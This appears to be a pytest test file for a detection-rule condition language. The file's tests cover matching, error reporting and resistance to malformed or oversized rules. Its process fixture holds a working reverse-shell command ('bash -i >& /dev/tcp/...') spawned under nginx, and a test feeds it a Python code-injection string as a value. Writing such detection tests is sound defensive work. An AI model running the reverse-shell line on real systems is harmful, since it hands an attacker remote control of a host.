"""The condition language: parsing, evaluation over event dicts, errors with positions, hostile input."""

from __future__ import annotations

import time
from typing import Any

import msgspec
import pytest

from heron.detect.fields import catalogue
from heron.detect.lang import (
    MAX_CONDITION_CHARS,
    MAX_DEPTH,
    ConditionError,
    Definitions,
    compile_condition,
    tokenize,
)
from heron.schema.events import Ancestor, FileChange, FileMeta, NetFlow, Process, ProcessExec, ProcessRef

EXEC = msgspec.to_builtins(ProcessExec(ts=1, process=Process(
    key="k-1", pid=4242, ppid=100, exe="/usr/bin/bash", comm="bash", uid=33, user="www-data",
    argv=["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ancestors=[Ancestor(100, "k-100", "/usr/sbin/nginx"), Ancestor(1, "k-1", "/usr/lib/systemd/systemd")])))
FLOW = msgspec.to_builtins(NetFlow(ts=1, process=ProcessRef(pid=7, exe="/usr/bin/curl", uid=1000), direction="out",
                                   protocol="tcp", local_addr="10.0.0.2", remote_addr="93.184.216.34",
                                   remote_port=443, domain="example.com", connections=1))
CHANGE = msgspec.to_builtins(FileChange(ts=1, path="/usr/local/bin/x", action="attrib",
                                        old=FileMeta(mode=0o100755, size=10), new=FileMeta(mode=0o104755, size=0)))

LISTS = {"shells": ["bash", "sh"], "servers": ["nginx", "apache2"], "ports": ["443", "8443"],
         "all_shells": ["shells", "zsh"]}
MACROS = {"spawned": "type = process.exec", "web_shell": "spawned and process.parent_name in (servers)"}

# (condition, event, expected)
TABLE: list[tuple[str, dict[str, Any], bool]] = [
    ("type = process.exec", EXEC, True),
    ("type == net.flow", EXEC, False),
    ("type != net.flow", EXEC, True),
    ("type in (net.flow, file.change)", FLOW, True),
    ("process.exe = /usr/bin/bash", EXEC, True),
    ("process.exe = '/usr/bin/bash'", EXEC, True),
    ('process.exe = "/usr/bin/sh"', EXEC, False),
    ("process.name = bash", EXEC, True),
    ("process.name in (shells)", EXEC, True),
    ("process.name in shells", EXEC, True),
    ("process.name in (all_shells)", EXEC, True),  # nested list
    ("process.name in (zsh, fish)", EXEC, False),
    ("process.pid = 4242", EXEC, True),
    ("process.pid > 4000 and process.pid <= 4242", EXEC, True),
    ("process.pid < 4242", EXEC, False),
    ("process.pid >= 0x1092", EXEC, True),  # 0x1092 = 4242
    ("process.uid in (0, 33)", EXEC, True),
    ("process.exe startswith /usr/", EXEC, True),
    ("process.exe startswith (/tmp/, /dev/shm/)", EXEC, False),
    ("process.exe endswith /bash", EXEC, True),
    ("process.exe glob /usr/*/ba?h", EXEC, True),
    ("process.exe glob '/tmp/*'", EXEC, False),
    ("process.exe contains bin", EXEC, True),
    ("process.exe icontains BIN", EXEC, True),
    ("process.exe contains BIN", EXEC, False),
    # list fields: any element
    ("process.argv = -c", EXEC, True),
    ("process.argv contains /dev/tcp/", EXEC, True),
    ("process.argv = -e", EXEC, False),
    ("process.argv != -e", EXEC, True),
    ("process.ancestors = /usr/sbin/nginx", EXEC, True),
    ("process.ancestors glob */systemd", EXEC, True),
    ("process.ancestors.pid = 1", EXEC, True),
    ("process.ancestors.pid = 2", EXEC, False),
    # derived fields
    ("process.parent_exe = /usr/sbin/nginx", EXEC, True),
    ("process.parent_name in (servers)", EXEC, True),
    ("process.cmdline contains 'bash -i >&'", EXEC, True),
    ("process.name = curl", FLOW, True),
    # macros
    ("web_shell", EXEC, True),
    ("web_shell", FLOW, False),
    ("not web_shell", FLOW, True),
    ("spawned and not process.name in (shells)", EXEC, False),
    # boolean structure and precedence: and binds tighter than or
    ("type = net.flow or process.name = bash and process.pid = 1", EXEC, False),
    ("(type = net.flow or process.name = bash) and process.pid = 4242", EXEC, True),
    ("not not type = process.exec", EXEC, True),
    ("true", EXEC, True),
    ("false or type = net.flow", EXEC, False),
    # absent fields: tests fail, != holds, exists tells
    ("remote_port = 443", EXEC, False),
    ("remote_port != 443", EXEC, True),
    ("remote_port in (ports)", FLOW, True),
    ("domain exists", FLOW, True),
    ("domain exists", EXEC, False),
    ("process.container_id exists", EXEC, False),
    ("process.argv exists", EXEC, True),
    ("process.argv exists", FLOW, False),
    ("remote_class exists", FLOW, False),
    # defaults of omitted fields: size 0 is never written but reads as 0
    ("new.size = 0", CHANGE, True),
    ("old.size = 10", CHANGE, True),
    ("new.size exists", CHANGE, False),
    ("new.size = 0", EXEC, False),
    # bits
    ("new.mode & 0o4000", CHANGE, True),
    ("old.mode & 0o4000", CHANGE, False),
    ("new.mode & 0o6000 and not old.mode & 0o6000", CHANGE, True),
    ("new.mode & 0o170000 = 0o100000", CHANGE, True),
    ("new.mode & 0o170000 = 0o120000", CHANGE, False),
    ("is_dir = false", CHANGE, True),
    ("is_dir = true", CHANGE, False),
    # string values that look like numbers stay text on text fields
    ("remote_addr startswith 93.", FLOW, True),
]


@pytest.mark.parametrize(("condition", "event", "expected"), TABLE, ids=[c for c, _, _ in TABLE])
def test_evaluation_table(condition: str, event: dict[str, Any], expected: bool) -> None:
    cond = compile_condition(condition, macros=MACROS, lists=LISTS)
    assert cond.matches(event) is expected


def test_event_types_are_inferred_for_indexing() -> None:
    assert compile_condition("type = process.exec and process.pid = 1").event_types == {"process.exec"}
    assert compile_condition("type in (net.flow, net.dns) and process.pid = 1").event_types == {"net.flow", "net.dns"}
    assert compile_condition("type = net.flow or type = net.dns").event_types == {"net.flow", "net.dns"}
    assert compile_condition("type = net.flow or process.pid = 1").event_types is None
    assert compile_condition("not type = net.flow").event_types is None
    assert compile_condition("web_shell", macros=MACROS, lists=LISTS).event_types == {"process.exec"}


def test_multiline_condition_and_quotes() -> None:
    cond = compile_condition('type = process.exec\n  and process.argv = "a \\"b\\" c"')
    ev = {"type": "process.exec", "process": {"argv": ['a "b" c']}}
    assert cond.matches(ev)


def error_of(condition: str, **kw: Any) -> ConditionError:
    with pytest.raises(ConditionError) as info:
        compile_condition(condition, macros=kw.get("macros", MACROS), lists=kw.get("lists", LISTS))
    return info.value


@pytest.mark.parametrize(("condition", "line", "column", "words"), [
    ("proc.name = bash", 1, 1, ["unknown field 'proc.name'", "process.name"]),
    ("type = process.exec and\n  process.exe startswith", 2, 25, ["expected a value"]),
    ("type = process.exec and\n  procss.exe = x", 2, 3, ["unknown field 'procss.exe'", "process.exe"]),
    ("type = proces.exec", 1, 8, ["unknown event type", "process.exec"]),
    ("(type = process.exec", 1, 21, ["expected ')'"]),
    ("type = process.exec)", 1, 20, ["unbalanced ')'"]),
    ("((type = net.flow)", 1, 19, ["expected ')' to close the '(' at column 1"]),
    ("process.pid = abc", 1, 15, ["not an integer"]),
    ("process.pid = 0755", 1, 15, ["0o755"]),
    ("process.exe < 3", 1, 1, ["'<' needs a numeric field"]),
    ("process.pid contains 3", 1, 1, ["'contains' needs a text field"]),
    ("process.exe & 4", 1, 1, ["'&' needs a numeric field"]),
    ("process exists and process = x", 1, 20, ["only 'exists' applies"]),
    ("undefined_macro and type = net.flow", 1, 1, ["unknown macro or field 'undefined_macro'"]),
    ("process.name in (nosuchlist", 1, 28, ["expected ',' or ')'"]),
    ("process.name in nosuchlist", 1, 17, ["expected '(' or a list name"]),
    ("process.exe", 1, 12, ["needs an operator"]),
    ("process.exe = 'unterminated", 1, 15, ["unterminated string"]),
    ("process.exe ! x", 1, 13, ["'!' must be followed by '='"]),
    ("type = net.flow and", 1, 20, ["end of condition"]),
    ("type = net.flow net.dns", 1, 17, ["expected 'and', 'or'"]),
    ("", 1, 1, ["empty condition"]),
    ("is_dir = yes", 1, 10, ["true or false"]),
    ("process.exe = a\x00b", 1, 16, ["unexpected character"]),
])
def test_errors_name_position_and_reason(condition: str, line: int, column: int, words: list[str]) -> None:
    err = error_of(condition)
    assert (err.line, err.column) == (line, column), str(err)
    for w in words:
        assert w in str(err)
    assert f"line {line}, column {column}" in str(err)


def test_macro_errors_name_the_macro_and_the_use() -> None:
    err = error_of("type = net.flow and broken", macros={"broken": "process.nam = x"})
    assert "macro 'broken'" in str(err) and "unknown field 'process.nam'" in str(err)
    assert (err.line, err.column) == (1, 21)
    err = error_of("a", macros={"a": "b and type = net.flow", "b": "a"})
    assert "refers to itself" in str(err)
    err = error_of("process.name in (l1)", lists={"l1": ["x", "l2"], "l2": ["l1"]})
    assert "includes itself" in str(err)


def test_no_eval_anywhere_in_the_package() -> None:
    import ast
    from pathlib import Path

    import heron.detect as pkg
    banned = {"eval", "exec", "compile", "__import__", "getattr", "setattr"}
    for source in Path(pkg.__file__).parent.glob("*.py"):
        for node in ast.walk(ast.parse(source.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id not in banned, (source, node.lineno, node.func.id)


def test_python_code_in_values_is_just_text() -> None:
    cond = compile_condition("process.exe = \"__import__('os').system('id')\"")
    assert not cond.matches(EXEC)
    assert cond.matches({"type": "process.exec", "process": {"exe": "__import__('os').system('id')"}})


# ---- hostile input --------------------------------------------------------------------------------


def test_deep_nesting_is_refused_cleanly() -> None:
    for opener, closer in (("(", ")"), ("not ", "")):
        text = opener * 3_000 + "type = net.flow" + closer * 3_000
        err = error_of(text)
        assert f"deeper than {MAX_DEPTH}" in str(err)
    err = error_of("(" * 10_000)
    assert "more than 8192 tokens" in str(err)
    # at the limit it still works
    ok = "(" * (MAX_DEPTH - 1) + "type = net.flow" + ")" * (MAX_DEPTH - 1)
    assert compile_condition(ok).matches(FLOW)


def test_long_flat_conditions_do_not_recurse() -> None:
    text = " and ".join(["process.pid > 0"] * 2000)
    assert compile_condition(text).matches(EXEC)
    text = " or ".join(["process.pid = 1"] * 2000)
    assert not compile_condition(text).matches(EXEC)


def test_huge_inputs_are_refused_quickly() -> None:
    start = time.monotonic()
    err = error_of("process.exe = " + "a" * (MAX_CONDITION_CHARS + 1))
    assert "characters long" in str(err)
    err = error_of("process.exe = '" + "a" * 10_000 + "'")
    assert "string is 10000 characters long" in str(err)
    err = error_of("process.exe = " + "a" * 10_000)
    assert "word is 10000 characters long" in str(err)
    err = error_of("process.name in (" + ", ".join(["x"] * 9_000) + ")")
    assert "tokens" in str(err)
    assert time.monotonic() - start < 2


@pytest.mark.parametrize("text", ["(((", ")))", "(()", "())", "( type = net.flow", "type = net.flow )", "()",
                                  "not", "not (", "process.name in (", "process.name in (a,", "process.name in (a b)"])
def test_unbalanced_and_truncated_input(text: str) -> None:
    err = error_of(text)
    assert err.line == 1 and err.column >= 1


def test_macro_bombs_are_bounded() -> None:
    # each macro doubles the previous one: 2**15 tests if expanded
    macros = {"m0": "process.pid = 1"}
    for i in range(1, 16):
        macros[f"m{i}"] = f"m{i - 1} or m{i - 1}"
    err = error_of("m15", macros=macros)
    assert "expands to more than" in str(err)
    assert len(str(err)) < 400, str(err)
    chain = {f"c{i}": f"c{i + 1}" for i in range(40)}
    chain["c40"] = "true"
    err = error_of("c0", macros=chain)
    assert "deeper" in str(err) and "c0 -> c1 -> c2" in str(err)


def test_random_garbage_never_crashes() -> None:
    import random
    rng = random.Random(6)
    alphabet = [*"()=!<>&,'\" \n\tabc.xyz0123", "and ", "or ", "not ", "in ", "process.exe ", "glob ", "exists ",
                "type "]
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        try:
            cond = compile_condition(text, macros=MACROS, lists=LISTS)
        except ConditionError:
            continue
        for ev in (EXEC, FLOW, CHANGE, {}, {"type": 3, "process": [1]}):
            assert cond.matches(ev) in (True, False)


def test_events_of_wrong_shape_do_not_raise() -> None:
    conds = [compile_condition(t) for t in ("process.exe startswith /tmp", "process.argv contains x",
                                            "process.parent_name = nginx", "process.ancestors = x",
                                            "new.mode & 4", "process.pid > 3", "process.name in (a, b)",
                                            "process.cmdline contains x")]
    weird: list[dict[str, Any]] = [{}, {"process": None}, {"process": "x"}, {"process": {"argv": "notalist"}},
                                   {"process": {"ancestors": [["short"], None, 3]}}, {"new": {"mode": "7"}},
                                   {"process": {"exe": 5, "pid": "3", "argv": [1, None]}},
                                   {"process": {"exe": ["a"], "name": {}}}]
    for cond in conds:
        for ev in weird:
            assert cond.matches(ev) in (True, False)


def test_tokenizer_positions() -> None:
    toks = tokenize("a = 'b c'\n  and d")
    assert [(t.kind, t.text, t.offset) for t in toks] == [
        ("word", "a", 0), ("op", "=", 2), ("string", "b c", 4), ("word", "and", 12), ("word", "d", 16), ("end", "", 17)]


def test_catalogue_covers_documented_fields() -> None:
    fields = catalogue()
    for name in ("type", "process.exe", "process.argv", "process.ancestors", "path", "remote_addr", "remote_port",
                 "remote_class", "domain", "package_manager", "query", "new.mode", "old.size", "action"):
        assert name in fields, name
    assert fields["process.argv"].is_list and fields["process.ancestors"].is_list
    assert fields["remote_port"].kind == "int" and fields["domain"].kind == "str"


def test_definitions_share_compiled_macros() -> None:
    defs = Definitions(macros={"m": "process.pid = 1"})
    a = defs.compile("m and type = process.exec")
    b = defs.compile("m or type = net.flow")
    assert a.macros == b.macros == {"m"}
    assert len(defs._macro_cache) == 1
